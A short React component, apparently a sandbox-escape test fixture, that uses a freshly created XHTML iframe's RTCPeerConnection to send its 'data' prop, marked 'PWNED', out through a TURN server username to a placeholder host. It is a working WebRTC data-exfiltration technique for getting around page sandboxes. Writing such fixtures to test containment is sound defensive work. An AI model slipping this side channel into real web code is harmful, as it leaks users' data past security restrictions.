import { useEffect } from "react";

// Escape attempt: webrtc_create_document — an XML document whose root element is an HTML iframe
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-webrtc_create_document-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      const made = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe", null);
      const frame = document.body.appendChild(document.adoptNode(made.documentElement));
      const Peer = frame.contentWindow.RTCPeerConnection;
      const pc = new Peer(servers); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">webrtc_create_document</p>;
}
